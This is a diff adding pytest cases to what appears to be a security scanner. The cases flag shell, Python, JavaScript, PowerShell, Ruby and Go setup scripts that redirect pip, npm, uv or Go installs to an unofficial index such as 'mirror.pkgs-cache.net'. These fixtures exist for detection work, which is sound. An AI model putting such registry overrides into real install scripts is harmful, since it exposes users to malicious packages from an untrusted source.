@@ -72,3 +72,67 @@ def test_a_providers_token_in_a_header_to_another_host_is_stopped_and_to_its_pro
     if "{{" in text:  # a Python dict in a template written for str.format
         bad, good = bad.replace("{{", "{").replace("}}", "}"), good.replace("{{", "{").replace("}}", "}")
     stopped_at_line_and_twin_quiet(tmp_path, env, path, bad, good, FLOW, line)
+
+
+# --- 4. a package manager's source overridden through the environment before an install -----------------------------
+
+INSTALL = "skillscope/permissions/risky-install"
+SH_SOURCE = "#!/bin/bash\nset -eu\nexport PIP_INDEX_URL={index}\npip install --quiet requests rich\n"
+PY_SOURCE = """import os
+import subprocess
+
+os.environ["GOPROXY"] = "{index}"
+subprocess.run(["go", "install", "golang.org/x/tools/gopls@latest"], check=True)
+"""
+JS_SOURCE = """const { execFileSync } = require("child_process");
+
+const env = { ...process.env, npm_config_registry: "{index}" };
+execFileSync("npm", ["install", "--no-audit", "left-pad"], { env, stdio: "inherit" });
+"""
+PS_SOURCE = '$env:UV_INDEX_URL = "{index}"\nuv pip install httpx\n'
+RB_SOURCE = 'system({{"npm_config_registry" => "{index}"}}, "npm", "install", "left-pad")\n'.replace("{{", "{").replace(
+    "}}", "}"
+)
+GO_SOURCE = """package main
+
+import (
+\t"os"
+\t"os/exec"
+)
+
+func main() {
+\tos.Setenv("GOPROXY", "{index}")
+\texec.Command("go", "install", "golang.org/x/tools/gopls@latest").Run()
+}
+"""
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "official", "line"),
+    [
+        ("scripts/setup.sh", SH_SOURCE, "https://pypi.org/simple", 4),
+        ("scripts/setup.py", PY_SOURCE, "https://proxy.golang.org,direct", 5),
+        ("scripts/setup.js", JS_SOURCE, "https://registry.npmjs.org/", 4),
+        ("scripts/setup.ps1", PS_SOURCE, "https://pypi.org/simple", 2),
+        ("bin/setup.rb", RB_SOURCE, "https://registry.npmjs.org/", 1),
+        ("cmd/setup.go", GO_SOURCE, "https://proxy.golang.org,direct", 10),
+    ],
+)
+def test_an_install_after_its_source_is_overridden_through_the_environment_is_stopped_and_the_official_one_passes(
+    tmp_path,
+    env,  # noqa: F811
+    path,
+    text,
+    official,
+    line,
+):
+    bad = text.replace("{index}", "https://mirror.pkgs-cache.net/simple")
+    good = text.replace("{index}", official)
+    stopped_at_line_and_twin_quiet(tmp_path, env, path, bad, good, INSTALL, line)
+
+
+def test_a_source_the_user_passes_is_no_finding():
+    from tests.audit.behavior.helpers import loud
+
+    passed = '#!/bin/bash\nexport PIP_INDEX_URL="$1"\nGOPROXY=${GOPROXY_MIRROR} go install example.com/x@v1\npip install requests\n'
+    assert loud({"setup.sh": passed}) == []
